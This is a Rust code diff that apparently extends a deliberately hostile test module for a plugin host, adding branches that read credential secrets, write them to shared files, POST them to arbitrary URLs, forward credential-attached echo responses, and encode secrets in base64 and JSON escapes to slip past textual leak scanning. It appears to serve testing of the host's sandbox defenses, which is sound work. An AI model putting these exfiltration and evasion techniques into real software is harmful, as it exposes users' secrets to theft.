@@ -8,6 +8,61 @@ use serde_json::{Map, Value, json};
 
 struct Hostile;
 
+/// The step's output. Normally a value; `{"__raw_output": TEXT}` is written out as TEXT
+/// itself, so an attack can choose the exact JSON text (its escapes) the host parses.
+struct Out(Value);
+
+impl serde::Serialize for Out {
+    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
+        match self.0.get("__raw_output").and_then(Value::as_str) {
+            Some(text) => serde_json::value::RawValue::from_string(text.to_string())
+                .map_err(serde::ser::Error::custom)?
+                .serialize(s),
+            None => self.0.serialize(s),
+        }
+    }
+}
+
+/// Every secret field of `binding`, joined with commas.
+fn secret_text(binding: &str) -> Result<String, Error> {
+    let secrets = credentials::get(binding)?;
+    Ok(secrets
+        .names()
+        .filter_map(|n| secrets.field(n))
+        .collect::<Vec<_>>()
+        .join(","))
+}
+
+/// `text` with every character as a JSON `\u` escape.
+fn json_escaped(text: &str) -> String {
+    text.chars()
+        .map(|c| format!("\\u{:04x}", c as u32))
+        .collect()
+}
+
+const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+
+fn base64(bytes: &[u8]) -> String {
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = chunk.len();
+        let b = [
+            chunk[0],
+            *chunk.get(1).unwrap_or(&0),
+            *chunk.get(2).unwrap_or(&0),
+        ];
+        let v = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            if i <= n {
+                out.push(B64[((v >> (18 - 6 * i)) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
 fn report(e: &Error) -> Value {
     json!({"error": {"kind": e.name(), "message": e.message()}})
 }
@@ -73,7 +128,7 @@ fn str_param<'a>(input: &'a Value, k: &str) -> Result<&'a str, Error> {
 
 impl Module for Hostile {
     type Input = Value;
-    type Output = Value;
+    type Output = Out;
 
     fn manifest() -> Manifest {
         Manifest::new("hostile", "0.1.0")
@@ -93,7 +148,16 @@ impl Module for Hostile {
             .allowed_host("http://169.254.169.254")
     }
 
-    fn execute(input: Value) -> Result<Value, Error> {
+    fn execute(input: Value) -> Result<Out, Error> {
+        attack(input).map(Out)
+    }
+}
+
+/// One attack, by `input.attack`.
+fn attack(input: Value) -> Result<Value, Error> {
+    // A block, so the attacks keep the indentation they had in `execute` (other
+    // branches add attacks here too; a re-indented copy would not merge).
+    {
         match str_param(&input, "attack")? {
             "ok" => Ok(json!({"ok": true, "echo": input})),
             "loop" => {
@@ -173,7 +237,11 @@ impl Module for Hostile {
                 Err(e) => Ok(json!({"error": e.to_string()})),
             },
             "http" => {
-                let mut req = Request::get(str_param(&input, "url")?);
+                let method = input["method"].as_str().unwrap_or("GET");
+                let mut req = Request::new(method, str_param(&input, "url")?);
+                if let Some(body) = input["body"].as_str() {
+                    req = req.body(body.as_bytes().to_vec());
+                }
                 if let Some(c) = input["credential"].as_str() {
                     req = req.credential(c);
                 }
@@ -385,6 +453,90 @@ impl Module for Hostile {
                     }
                 }
                 Ok(json!({"created": count}))
+            }
+            "secret_to_file" => {
+                // Step 1 of a hand-over: the secret into the shared workspace.
+                let leak = match secret_text(str_param(&input, "binding")?) {
+                    Ok(l) => l,
+                    Err(e) => return Ok(report(&e)),
+                };
+                let path = str_param(&input, "path")?;
+                std::fs::write(path, leak.as_bytes())
+                    .map_err(|e| Error::internal(e.to_string()))?;
+                Ok(json!({"written": path}))
+            }
+            "file_to_url" => {
+                // Step 2, with no credential: whatever the workspace holds, elsewhere.
+                let contents = std::fs::read_to_string(str_param(&input, "path")?)
+                    .map_err(|e| Error::invalid_input(e.to_string()))?;
+                let sent = Request::new("POST", str_param(&input, "url")?)
+                    .header("x-leak", contents.trim())
+                    .body(contents.clone().into_bytes())
+                    .send();
+                Ok(json!({"sent": match sent {
+                    Ok(r) => json!({"status": r.status}),
+                    Err(e) => report(&e),
+                }}))
+            }
+            "echo_then_forward" => {
+                // Have the host attach a credential to a request an echo endpoint answers,
+                // then send what came back elsewhere.
+                let method = input["method"].as_str().unwrap_or("GET");
+                let echoed = Request::new(method, str_param(&input, "url")?)
+                    .credential(str_param(&input, "credential")?)
+                    .send();
+                let body = match echoed {
+                    Ok(r) => r.text(),
+                    Err(e) => return Ok(json!({"echo": report(&e)})),
+                };
+                let forwarded = Request::new("POST", str_param(&input, "forward_to")?)
+                    .header("content-type", "text/plain")
+                    .body(body.clone().into_bytes())
+                    .send();
+                Ok(json!({
+                    "echo": {"body": body},
+                    "forwarded": match forwarded {
+                        Ok(r) => json!({"status": r.status}),
+                        Err(e) => report(&e),
+                    },
+                }))
+            }
+            "leak_encoded" => {
+                // Read a secret and hand it out in forms a textual search misses: JSON
+                // escapes in the output text, base64 and JSON escapes in the log, and
+                // base64 in an error message.
+                let leak = match secret_text(str_param(&input, "binding")?) {
+                    Ok(l) => l,
+                    Err(e) => return Ok(report(&e)),
+                };
+                log::info(&format!("b64 {}", base64(leak.as_bytes())));
+                log::info(&format!("escaped {}", json_escaped(&leak)));
+                println!("stdout escaped {}", json_escaped(&leak));
+                if input["as_error"] == json!(true) {
+                    return Err(Error::invalid_input(format!(
+                        "cannot use {}",
+                        base64(leak.as_bytes())
+                    )));
+                }
+                Ok(json!({"__raw_output": format!(
+                    "{{\"escaped\":\"{}\",\"{}\":true,\"b64\":\"{}\"}}",
+                    json_escaped(&leak),
+                    json_escaped(&leak),
+                    base64(leak.as_bytes()),
+                )}))
+            }
+            "s3_put" => {
+                let put = flow8_sdk::storage::put_object(&flow8_sdk::storage::PutObject {
+                    credential: "s3".into(),
+                    bucket: input["bucket"].as_str().map(str::to_string),
+                    key: str_param(&input, "key")?.into(),
+                    file_path: str_param(&input, "file_path")?.into(),
+                    ..Default::default()
+                });
+                Ok(match put {
+                    Ok(r) => json!({"etag": r.etag, "size": r.size}),
+                    Err(e) => report(&e),
+                })
             }
             "panic" => panic!("the hostile module panicked on purpose"),
             other => Err(Error::invalid_input(format!("unknown attack `{other}`"))),
